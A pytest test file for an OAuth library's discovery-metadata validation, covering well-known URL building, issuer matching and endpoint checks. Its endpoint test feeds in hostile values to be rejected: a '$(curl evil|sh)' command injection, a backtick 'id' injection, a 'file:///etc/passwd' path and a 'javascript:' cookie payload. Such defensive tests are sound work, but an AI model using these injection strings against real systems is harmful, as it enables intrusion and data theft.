"""Authorization server metadata and discovery (RFC 8414 §3, §3.3; OIDC Discovery §4.3)."""

from __future__ import annotations

from typing import Any

import pytest

from tokenbroker.errors import ConfigError, IssuerMismatch, ProtocolError
from tokenbroker.protocol.rfc8414 import metadata_urls, validate_metadata

ISSUER = "https://as.example.com"


def _doc(**changes: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "issuer": ISSUER,
        "authorization_endpoint": f"{ISSUER}/authorize",
        "token_endpoint": f"{ISSUER}/token",
        "jwks_uri": f"{ISSUER}/jwks",
        "revocation_endpoint": f"{ISSUER}/revoke",
        "userinfo_endpoint": f"{ISSUER}/userinfo",
        "device_authorization_endpoint": f"{ISSUER}/device",
        "code_challenge_methods_supported": ["S256"],
        "authorization_response_iss_parameter_supported": True,
        "id_token_signing_alg_values_supported": ["RS256"],
        "scopes_supported": ["openid", "email"],
        "token_endpoint_auth_methods_supported": ["client_secret_basic"],
    }
    doc.update(changes)
    return {k: v for k, v in doc.items() if v is not None}


def _validate(doc: dict[str, Any], *, loopback: bool = False, expected: str = ISSUER) -> Any:
    return validate_metadata(
        doc, expected_issuer=expected, allow_insecure_loopback=loopback, provider="acme"
    )


def test_metadata_urls_without_path() -> None:
    assert metadata_urls(ISSUER) == [
        f"{ISSUER}/.well-known/openid-configuration",
        f"{ISSUER}/.well-known/oauth-authorization-server",
    ]
    assert metadata_urls(ISSUER + "/") == metadata_urls(ISSUER)


def test_metadata_urls_with_path() -> None:
    assert metadata_urls("https://as.example.com/tenant/v2/") == [
        "https://as.example.com/tenant/v2/.well-known/openid-configuration",
        "https://as.example.com/.well-known/oauth-authorization-server/tenant/v2",
        "https://as.example.com/.well-known/openid-configuration/tenant/v2",
    ]


@pytest.mark.parametrize(
    "issuer", ["http://as.example.com", "https://as.example.com?x=1", "javascript:alert(1)"]
)
def test_metadata_urls_refuse_bad_issuer(issuer: str) -> None:
    with pytest.raises(ConfigError):
        metadata_urls(issuer)


def test_metadata_urls_loopback_dev() -> None:
    assert metadata_urls("http://127.0.0.1:9000", allow_insecure_loopback=True)[0] == (
        "http://127.0.0.1:9000/.well-known/openid-configuration"
    )


def test_valid_document() -> None:
    meta = _validate(_doc())
    assert meta.issuer == ISSUER
    assert meta.token_endpoint == f"{ISSUER}/token"
    assert meta.jwks_uri == f"{ISSUER}/jwks"
    assert meta.device_authorization_endpoint == f"{ISSUER}/device"
    assert meta.code_challenge_methods_supported == ("S256",)
    assert meta.authorization_response_iss_parameter_supported is True
    assert meta.id_token_signing_alg_values_supported == ("RS256",)
    assert meta.scopes_supported == ("openid", "email")
    assert meta.token_endpoint_auth_methods_supported == ("client_secret_basic",)


def test_minimal_document_defaults() -> None:
    doc = {
        "issuer": ISSUER,
        "authorization_endpoint": f"{ISSUER}/a",
        "token_endpoint": f"{ISSUER}/t",
    }
    meta = _validate(doc)
    assert meta.jwks_uri is None
    assert meta.code_challenge_methods_supported is None
    assert meta.authorization_response_iss_parameter_supported is False


@pytest.mark.parametrize(
    "issuer",
    [
        "https://evil.example.com",
        ISSUER + "/",
        "https://AS.example.com",
        "HTTPS://as.example.com",
        "https://as.example.com:443",
        None,
        42,
    ],
)
def test_issuer_mismatch_names_provider(issuer: object) -> None:
    with pytest.raises(IssuerMismatch, match="acme"):
        _validate(_doc(issuer=issuer))


def test_trailing_slash_in_expected_is_a_mismatch_too() -> None:
    with pytest.raises(IssuerMismatch):
        _validate(_doc(), expected=ISSUER + "/")


@pytest.mark.parametrize(
    "field",
    [
        "authorization_endpoint",
        "token_endpoint",
        "jwks_uri",
        "revocation_endpoint",
        "userinfo_endpoint",
        "device_authorization_endpoint",
    ],
)
@pytest.mark.parametrize(
    "url",
    [
        "http://as.example.com/x",
        "javascript:alert(document.cookie)",
        "https://as.example.com/$(curl evil|sh)",
        "https://as.example.com/`id`",
        "file:///etc/passwd",
        "https://user@as.example.com/x",
    ],
)
def test_every_endpoint_is_checked(field: str, url: str) -> None:
    with pytest.raises(ConfigError, match=field) as info:
        _validate(_doc(**{field: url}))
    assert "acme" in info.value.message


def test_http_loopback_allowed_only_in_dev() -> None:
    issuer = "http://127.0.0.1:9000"
    doc = _doc(
        issuer=issuer,
        authorization_endpoint=f"{issuer}/a",
        token_endpoint=f"{issuer}/t",
        jwks_uri=None,
        revocation_endpoint=None,
        userinfo_endpoint=None,
        device_authorization_endpoint=None,
    )
    assert _validate(doc, loopback=True, expected=issuer).token_endpoint == f"{issuer}/t"
    with pytest.raises(ConfigError):
        _validate(doc, loopback=False, expected=issuer)


@pytest.mark.parametrize("missing", ["authorization_endpoint", "token_endpoint"])
def test_required_endpoints(missing: str) -> None:
    doc = _doc()
    del doc[missing]
    with pytest.raises(ProtocolError, match="lacks"):
        _validate(doc)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("code_challenge_methods_supported", "S256"),
        ("scopes_supported", [1, 2]),
        ("authorization_response_iss_parameter_supported", "true"),
        ("token_endpoint", 5),
    ],
)
def test_mistyped_members(field: str, value: object) -> None:
    with pytest.raises(ProtocolError):
        _validate(_doc(**{field: value}))
